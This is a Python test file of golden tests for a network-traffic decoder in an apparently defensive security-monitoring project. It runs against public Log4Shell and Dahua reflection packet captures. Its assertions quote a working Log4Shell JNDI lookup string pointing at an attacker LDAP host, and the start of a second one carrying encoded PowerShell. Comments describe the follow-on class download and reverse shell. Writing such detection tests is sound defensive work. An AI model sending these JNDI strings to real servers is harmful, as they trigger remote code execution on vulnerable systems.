"""Golden tests on real public captures from ../shared/corpora/pcap.

Log4Shell (OTRF Security-Datasets): the exploit's HTTP request with the JNDI lookup in
the User-Agent, the victim's LDAP callback to the attacker, and what followed. The
Dahua/BACnet reflection capture (StopDDoS): DHIP device descriptions at scale.
"""
from __future__ import annotations

import json
import os
from collections import Counter
from pathlib import Path

import pytest

from collectors.network import NetworkDecoder, pcap_events, read_frames
from citysoc.testing import corpora_dir

CORPUS = corpora_dir() / "pcap"
GOLDEN = Path(__file__).parent / "golden" / "net"
JNDI_PCAP = CORPUS / "pcap_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.pcap"
SERIAL_PCAPNG = CORPUS / "pcap_log4shell_cve2021_44228_java_serialized_2022-05-13045800.pcapng"
DAHUA_PCAP = CORPUS / "amp.UDP.bacnet.IOT.37810.pcapng"


def _need(path: Path) -> Path:
    if not path.is_file():
        pytest.skip(f"corpus file {path.name} is not in {CORPUS.resolve()} (shared corpora absent)")
    return path


def _golden(name: str, events: list[dict]) -> None:
    golden = GOLDEN / name
    got = json.loads(json.dumps(events))
    if os.environ.get("CITYSOC_REGEN_GOLDEN"):
        golden.write_text(json.dumps(got, indent=1, sort_keys=True) + "\n")
    assert got == json.loads(golden.read_text()), f"events differ from {golden}; if intended, regenerate " \
                                                  "with CITYSOC_REGEN_GOLDEN=1 and review the diff"


def test_net_log4shell_jndi_reference_golden() -> None:
    events = list(pcap_events(_need(JNDI_PCAP)))
    _golden("log4shell_jndi_reference.json", events)
    exploit = next(e for e in events if e["event"]["action"] == "http_request" and e["destination"]["port"] == 8080)
    assert exploit["user_agent"]["original"] == "${jndi:ldap://192.168.2.6:1389/o=reference}"
    assert exploit["source"]["ip"] == "192.168.2.6" and exploit["url"]["path"] == "/Log4j-2.14.0-SNAPSHOT/api"
    # The callback: the web server (192.168.2.5) connects out to the attacker's LDAP on 1389.
    search = next(e for e in events if e["event"]["action"] == "ldap_search")
    assert search["citysoc"]["network"]["ldap"]["base_object"] == "o=reference"
    assert (search["source"]["ip"], search["destination"]["ip"], search["destination"]["port"]) == (
        "192.168.2.5", "192.168.2.6", 1389)
    flows = [e for e in events if e["event"]["action"] == "network_flow"]
    assert len(flows) == 4
    ldap_flow = next(e for e in flows if e["destination"]["port"] == 1389)
    assert ldap_flow["network"]["protocol"] == "ldap"
    assert ldap_flow["network"]["community_id"] == search["network"]["community_id"]
    # Then the class download over HTTP on 8888, and a reverse shell in clear text on 443.
    download = next(e for e in events if e["event"]["action"] == "http_request" and e["destination"]["port"] == 8888)
    assert download["url"]["path"] == "/xExportObject.class"
    shell = next(e for e in flows if e["destination"]["port"] == 443)
    assert "protocol" not in shell["network"], "no TLS on 443: the port must not be taken for the protocol"


def test_net_log4shell_serialized_pcapng_golden() -> None:
    events = list(pcap_events(_need(SERIAL_PCAPNG)))
    _golden("log4shell_java_serialized.json", events)
    exploit = next(e for e in events if e["event"]["action"] == "http_request" and e["destination"]["port"] == 8080)
    # The JNDI User-Agent (base64 PowerShell) spans several TCP segments: reassembled head.
    ua = exploit["user_agent"]["original"]
    assert ua.startswith("${jndi:ldap://192.168.3.5:1389/o=tomcat,pwshb64cmd=") and ua.endswith("}")
    assert len(ua) > 3000
    search = next(e for e in events if e["event"]["action"] == "ldap_search")
    assert search["citysoc"]["network"]["ldap"]["base_object"].startswith("o=tomcat,pwshb64cmd=")
    # The C2 speaks HTTP on 443; its session cookies are not kept.
    c2 = [e for e in events if e["event"]["action"] == "http_request" and e["destination"]["port"] == 443]
    assert [e["url"]["path"] for e in c2][:2] == ["/news.php", "/login/process.php"]
    assert all(e["citysoc"]["network"]["http"]["request_headers"]["cookie"] == "[redacted]" for e in c2)
    assert Counter(e["event"]["action"] for e in events)["network_flow"] == 3


def test_net_pcapng_reads_every_packet() -> None:
    frames = list(read_frames(_need(SERIAL_PCAPNG)))
    assert len(frames) == 125
    assert {lt for _, lt, _ in frames} == {1}
    times = [ts for ts, _, _ in frames]
    assert times == sorted(times) and 1652400000 < times[0] < 1652500000  # 2022-05-13


def test_net_dahua_reflection_capture() -> None:
    path = _need(DAHUA_PCAP)
    dec = NetworkDecoder()
    events = list(pcap_events(path, decoder=dec))
    counters = dec.counters()
    assert counters["packets"] == 9617
    flows = [e for e in events if e["event"]["action"] == "network_flow"]
    # Every IP packet lands in exactly one flow.
    assert sum(e["network"]["packets"] for e in flows) == 9617 - counters["non_ip"]
    dahua = [e for e in events if e["event"]["action"] == "dahua_discovery"]
    dropped = sum(e["citysoc"]["network"].get("app_events_dropped", 0) for e in flows
                  if e["network"].get("protocol") == "dhip")
    # Every DHIP datagram became an event, was counted as dropped (per-flow cap) or as an
    # app error (a reply too large for one packet arrives fragmented; no IP reassembly).
    assert len(dahua) + dropped + counters["app_errors"] == 2374
    assert dahua, "at least the unfragmented DHIP replies decode"
    assert all(e["destination"]["port"] == 37810 for e in dahua), "the replying device is the server"
    assert {e["source"]["ip"] for e in dahua} == {"10.10.10.1"}  # the (anonymised) victim
    methods = Counter(e["citysoc"]["network"]["dahua"].get("method") for e in dahua)
    assert methods.most_common(1)[0][0] == "client.notifyDevInfo"
    assert any("device_type" in e["citysoc"]["network"]["dahua"] for e in dahua)
    assert any(e["network"].get("protocol") == "bacnet" for e in flows)
